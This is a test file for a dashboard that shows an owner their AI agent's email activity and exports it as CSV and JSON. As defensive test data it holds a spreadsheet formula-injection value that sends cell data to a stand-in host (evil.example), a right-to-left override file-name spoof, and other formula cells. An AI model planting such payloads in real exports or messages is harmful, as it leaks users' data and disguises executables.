import type { Browser } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import * as z from 'zod';
import { ServiceError } from '../../../core/contract/errors.ts';
import type { Storage } from '../../../core/ports/storage.ts';
import { MINUTE_MS } from '../../../core/time/durations.ts';
import { dayIn, isoIn } from '../../../core/time/time-zone.ts';
import { approvalOf } from '../../core/scene.ts';
import { callWith } from '../../open-service.ts';
import { browserIsMissing, inBrowser, openBrowser, press } from '../../servers/browser.ts';
import { sqliteOnClock } from '../../store-clock.ts';
import { type Dashboard, openDashboard, PASSWORD, type PlainAnswer } from './open-dashboard.ts';
import { signedInPage } from './signed-in-page.ts';

const RLO = '\u202e';
const HOSTILE = `=HYPERLINK("http://evil.example/?"&A1) <b>${RLO}fdp.exe`;
const messages = z.looseObject({ messages: z.array(z.looseObject({ id: z.string() })) });
const exportedRows = z.array(
  z.looseObject({ at: z.string(), key_name: z.string(), tool: z.string().nullable(), sentence: z.string() }),
);

/** What an agent does in an afternoon, in two runs, and what the owner decides. */
async function afternoon(dashboard: Dashboard): Promise<void> {
  const { key, service, ownerId, clock } = dashboard;
  const listed = await key.call('list_unread');
  if (listed.status !== 'ok') throw new Error(listed.status);
  const [first, second] = messages.parse(listed.result).messages;
  await key.call('get_email', { id: first?.id });
  await key.call('mark_read', { ids: [first?.id, second?.id] });
  const sent = approvalOf(
    await key.call('send_email', { to: ['nina@x.example'], subject: HOSTILE, body: 'Hi' }),
  );
  for (let n = 0; n < 3; n++) await key.call('get_approval', { approval_id: sent.id });
  await service.approvals.reject(ownerId, sent.id);
  clock.shift(30 * MINUTE_MS);
  const archived = approvalOf(await key.call('archive_email', { id: first?.id }));
  const view = await service.approvals.show(ownerId, archived.id);
  await service.approvals.approve(ownerId, archived.id, view?.approval.digest ?? '');
  await key.call('get_email', { id: 'm1_wrong' });
}

/** The lines of a page, from its markup. */
function linesOf({ body }: PlainAnswer): string[] {
  const items = body.split(/<ol class="events">|<\/ol>/).filter((_, index) => index % 2 === 1);
  return items
    .join('')
    .split('</li>')
    .slice(0, -1)
    .map((item) =>
      item
        .replace(/<time[^>]*>[^<]*<\/time>/, '')
        .replace(/<[^>]*>/g, '')
        .trim(),
    );
}

/** Requests a page in one session of the owner. */
async function get(dashboard: Dashboard, path: string, method = 'GET'): Promise<PlainAnswer> {
  const cookie = sessions.get(dashboard) ?? dashboard.cookie();
  sessions.set(dashboard, cookie);
  return dashboard.send({ method, path, headers: { cookie: await cookie } });
}
const sessions = new WeakMap<Dashboard, Promise<string>>();

/** Writes `count` rows of a key's calls at one instant. */
async function record(storage: Storage, { ownerId, key }: Dashboard, count: number, now = new Date()) {
  const caller = { ownerId, credentialId: key.keyId };
  for (let n = 0; n < count; n++) {
    const activity = {
      kind: 'call',
      tool: 'get_me',
      outcome: 'ok',
      approvalId: null,
      durationMs: 1,
    } as const;
    const row = { ...activity, credentialId: key.keyId, shown: [], listed: [] };
    await storage.finish({ caller, slotId: 'none', claim: null, activity: row, now });
  }
}

/** Storage whose activity is `between` the real one and its caller. */
function storageWith(between: (storage: Storage) => Storage['activity']): Storage {
  const storage = sqliteOnClock(':memory:', Date.now);
  return { ...storage, activity: between(storage) };
}

/** Parses CSV as RFC 4180 says. */
function recordsOf(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  expect(csv.endsWith('"\r\n')).toBe(true);
  return csv
    .slice(2, -3)
    .split('"\r\n"')
    .map((record) => record.split('","').map((cell) => cell.replaceAll('""', '"')));
}

describe('the activity', () => {
  it('says in sentences what each call did, what became of it, and which message it was about', async () => {
    const dashboard = await openDashboard();
    await afternoon(dashboard);
    const page = await get(dashboard, '/activity');
    const subject = '=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1) &lt;b>⟨U+202E⟩fdp.exe';
    const archived = 'Ihr Termin am Donnerstag um 16:20 Uhr (Praxis Dr. Yıldız &lt;termine@praxis.example>)';
    expect(linesOf(page)).toEqual([
      'Tried to read messages. Refused: the call named a message that Countersign never showed.',
      `Archived ${archived}, as you approved. Open`,
      `You approved its request to archive ${archived}. Open`,
      `Asked to archive ${archived}: you approved it. Open`,
      `You rejected its request to send ${subject} to nina@x.example. Open`,
      'Read one of its requests. 3 times',
      `Asked to send ${subject} to nina@x.example: you rejected it. Open`,
      'Marked 2 messages as read.',
      'Read Ihr Termin am Donnerstag um 16:20 Uhr (termine@praxis.example).',
      'Listed 13 unread messages.',
    ]);
    expect(page.body.match(/<section class="run"/g)).toHaveLength(2);
  });

  it('names for a day what was read, and counts it after that', async () => {
    const dashboard = await openDashboard();
    const { key, clock } = dashboard;
    const found = await key.call('search_inbox', { q: 'Termin' });
    if (found.status !== 'ok') throw new Error(found.status);
    const [{ id } = expect.fail()] = messages.parse(found.result).messages;
    const hostile = `=2+2 <b>${RLO}gnp.exe`;
    await key.call('create_tracker', { title: hostile });
    await key.call('get_tracker', { tracker_id: 1 });
    await key.call('get_email', { id });
    await key.call('get_thread', { id });
    await key.call('get_email', { id });
    const named = 'Ihr Termin am Donnerstag um 16:20 Uhr (termine@praxis.example)';
    const lines = [
      `Read ${named}.`,
      `Read ${named} of a conversation.`,
      `Read ${named}.`,
      'Read the tracker =2+2 &lt;b>⟨U+202E⟩gnp.exe.',
    ];
    const filter = (line: string) => line.startsWith('Read');
    expect(linesOf(await get(dashboard, '/activity')).filter(filter)).toEqual(lines);
    // The same lines with a filter, and nothing that a spreadsheet would run.
    expect(linesOf(await get(dashboard, '/activity?tool=get_thread'))).toEqual([lines[1]]);
    const csv = recordsOf((await get(dashboard, '/activity/export.csv')).body);
    expect(csv.map((cells) => cells[2])).toContain('Read the tracker “=2+2 <b>⟨U+202E⟩gnp.exe”.');
    clock.shift(25 * 60 * MINUTE_MS);
    sessions.delete(dashboard);
    expect(linesOf(await get(dashboard, '/activity')).filter(filter)).toEqual([
      'Read 1 message.',
      'Read 1 message of a conversation.',
      'Read 1 message.',
      'Read a tracker.',
    ]);
  });

  it('names what was read on a filtered page, too, among many other reads', async () => {
    const storage = sqliteOnClock(':memory:', Date.now);
    const dashboard = await openDashboard({ storage });
    const { key, ownerId } = dashboard;
    const found = await key.call('list_unread');
    if (found.status !== 'ok') throw new Error(found.status);
    const [first, second] = messages.parse(found.result).messages;
    await key.call('get_thread', { id: second?.id });
    const caller = { ownerId, credentialId: key.keyId };
    const row = {
      kind: 'call',
      tool: 'get_email',
      outcome: 'ok',
      approvalId: null,
      durationMs: 1,
      credentialId: key.keyId,
      shown: ['m1_other'],
      listed: [],
    } as const;
    for (let n = 0; n < 700; n++) {
      const read = { readId: `other-${n}`, hashes: '', phrases: '', sealed: 'not to be opened' };
      await storage.finish({ caller, slotId: 'none', claim: null, activity: row, read, now: new Date() });
    }
    await key.call('get_thread', { id: first?.id });
    expect(linesOf(await get(dashboard, '/activity?tool=get_thread'))).toEqual([
      expect.stringMatching(/^Read Ihr Termin .*@.* of a conversation\.$/),
      expect.stringMatching(/^Read (?!\d).*@.* of a conversation\.$/),
    ]);
  });

  it('says why a call was refused', async () => {
    const dashboard = await openDashboard();
    const { service, ownerId } = dashboard;
    const fences = { recipients: ['x.example'] };
    const { apiKey, keyId } = await service.keys.create({ ownerId, name: 'fenced', preset: 'full', fences });
    const letter = { to: ['nina@elsewhere.example'], subject: 'Q3', body: 'Hi' };
    await callWith(service, apiKey, 'send_email', letter);
    await service.keys.pause(ownerId, keyId);
    await callWith(service, apiKey, 'send_email', letter);
    expect(linesOf(await get(dashboard, '/activity'))).toEqual([
      'Tried to send a new message. Refused: its key is paused.',
      'Tried to send a new message. Refused: outside its fences.',
    ]);
  });

  it("is filtered by key, tool and day in the owner's time zone, and comes in pages", async () => {
    const dashboard = await openDashboard({ timezone: 'Pacific/Auckland' });
    const { key, clock } = dashboard;
    const other = await dashboard.addKey('read');
    // Midnight of Auckland, on a day far from now: within the 90 days, and within the session.
    const now = clock.now();
    const { until } = dayIn(isoIn(now, 'Pacific/Auckland').slice(0, 10), 'Pacific/Auckland');
    clock.shift(until.getTime() - now.getTime() - 30_000);
    for (let n = 0; n < 3; n++) await key.call('get_me');
    await other.call('list_folders');
    clock.shift(60_000);
    for (let n = 0; n < 101; n++) await key.call(n % 2 === 0 ? 'list_folders' : 'get_me');
    const counted = async (search: string) => {
      const { body, status } = await get(dashboard, `/activity${search}`);
      expect(status).toBe(200);
      const older = /href="([^"]*before=[^"]*)"/.exec(body)?.[1]?.replaceAll('&amp;', '&');
      const rows = [...body.matchAll(/<li>|(\d+) times/g)].map(([, times]) =>
        times ? Number(times) - 1 : 1,
      );
      return { rows: rows.reduce((sum, one) => sum + one, 0), older };
    };
    const [yesterday, today] = [until.getTime() - 1, until.getTime()].map((ms) =>
      isoIn(new Date(ms), 'Pacific/Auckland').slice(0, 10),
    );
    expect(await counted(`?day=${yesterday}`)).toEqual({ rows: 4, older: undefined });
    expect(await counted(`?day=${yesterday}&key=${other.keyId}`)).toMatchObject({ rows: 1 });
    expect(await counted(`?tool=list_folders`)).toMatchObject({ rows: 52 });
    expect(await counted(`?tool=list_folders&key=${key.keyId}`)).toMatchObject({ rows: 51 });
    const first = await counted(`?day=${today}&key=${key.keyId}&tool=`);
    expect(first).toMatchObject({ rows: 100 });
    expect(await counted(first.older?.replace('/activity', '') ?? '')).toEqual({ rows: 1, older: undefined });
  });

  it('refuses an address that its form would not make', async () => {
    const dashboard = await openDashboard();
    for (const search of ['?day=yesterday', '?day=2026-02-30', '?before=1', `?key=${'k'.repeat(65)}`]) {
      expect(await get(dashboard, `/activity${search}`), search).toMatchObject({ status: 422 });
    }
    expect(await get(dashboard, '/activity/export.csv?day=2026-02-30')).toMatchObject({ status: 422 });
  });

  it('is exported as CSV whose cells no spreadsheet runs, and as JSON', async () => {
    const dashboard = await openDashboard();
    await dashboard.service.keys.create({ ownerId: dashboard.ownerId, name: '@SUM(A1)', preset: 'read' });
    await afternoon(dashboard);
    const csv = await get(dashboard, '/activity/export.csv');
    expect(csv.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': 'attachment; filename="activity.csv"',
      'x-content-type-options': 'nosniff',
      'cache-control': 'no-store',
    });
    const [head, ...records] = recordsOf(csv.body);
    expect(head?.slice(0, 3)).toEqual(['Time (UTC)', 'Key', 'What happened']);
    expect(records).toHaveLength(12);
    expect(records.map((cells) => cells[2])).toContain(
      'Asked to send “=HYPERLINK("http://evil.example/?"&A1) <b>⟨U+202E⟩fdp.exe” to “nina@x.example”: you rejected it.',
    );
    const json = await get(dashboard, '/activity/export.json');
    expect(json.headers['content-type']).toBe('application/json');
    const rows = exportedRows.parse(JSON.parse(json.body));
    expect(rows.map(({ at }) => at)).toEqual(records.map(([at]) => at));
    expect(rows.at(-1)).toMatchObject({ key_name: 'agent', tool: 'list_unread', outcome: 'ok' });
    const filtered = await get(dashboard, '/activity/export.json?tool=mark_read');
    expect(exportedRows.parse(JSON.parse(filtered.body))).toHaveLength(1);
    const none = await get(dashboard, '/activity/export.json?tool=get_me');
    expect(JSON.parse(none.body)).toEqual([]);
  });

  it('is exported only to its signed-in owner', async () => {
    const dashboard = await openDashboard();
    await afternoon(dashboard);
    const answer = await dashboard.send({ path: '/activity/export.csv' });
    expect(answer).toMatchObject({ status: 303, body: '' });
    await dashboard.service.owners.create({ ownerId: 'eve', email: 'eve@x.example', password: PASSWORD });
    const cookie = await dashboard.cookie({ email: 'eve@x.example', password: PASSWORD });
    const theirs = await dashboard.send({ path: '/activity/export.json', headers: { cookie } });
    expect(JSON.parse(theirs.body)).toEqual([]);
    const head = await get(dashboard, '/activity/export.csv', 'HEAD');
    expect(head).toMatchObject({ status: 200, body: '' });
  });

  it('is exported page by page, each row once, while calls go on', async () => {
    const pages: number[] = [];
    let meanwhile = async (): Promise<void> => {};
    const storage = storageWith((real) => async (query) => {
      const rows = await real.activity(query);
      pages.push(rows.length);
      await meanwhile();
      return rows;
    });
    const dashboard = await openDashboard({ storage });
    await record(storage, dashboard, 1100);
    meanwhile = async () => {
      await dashboard.key.call('list_folders');
    };
    const { body } = await get(dashboard, '/activity/export.json');
    const rows = exportedRows.parse(JSON.parse(body));
    expect(rows.map(({ tool }) => tool)).toEqual(Array<string>(1100).fill('get_me'));
    expect(pages).toEqual([501, 501, 100]);
  });

  it('is never exported in part as if it were whole', async () => {
    let left = 0;
    const storage = storageWith((real) => (query) => {
      if (left-- > 0) return real.activity(query);
      return Promise.reject(new ServiceError('temporarily_unavailable', { details: { retry_after_s: 5 } }));
    });
    const dashboard = await openDashboard({ storage });
    await record(storage, dashboard, 600);
    expect(await get(dashboard, '/activity/export.csv')).toMatchObject({ status: 503 });
    left = 1;
    await expect(get(dashboard, '/activity/export.csv')).rejects.toThrow('aborted');
  });
});

describe.skipIf(browserIsMissing)(inBrowser("the owner's activity"), () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await openBrowser();
  });

  it('fits every width, and is filtered and downloaded without JavaScript', async () => {
    const dashboard = await openDashboard();
    await afternoon(dashboard);
    const page = await signedInPage(browser, dashboard, '/activity', { javaScriptEnabled: false });
    expect(await page.locator('.events > li').count()).toBe(10);
    for (const width of [320, 390, 1440]) {
      await page.setViewportSize({ width, height: 844 });
      expect(await page.locator('html').evaluate((html) => html.scrollWidth)).toBeLessThanOrEqual(width);
    }
    await page.getByText('Filter', { exact: true }).click();
    await page.getByLabel('Tool').selectOption('Mark as read');
    await press(page, 'Show');
    expect(await page.locator('.events > li').allInnerTexts()).toEqual([
      expect.stringContaining('Marked 2 messages as read.'),
    ]);
    const download = page.waitForEvent('download');
    await page.getByRole('link', { name: 'CSV' }).click();
    expect((await download).suggestedFilename()).toBe('activity.csv');
  });
});
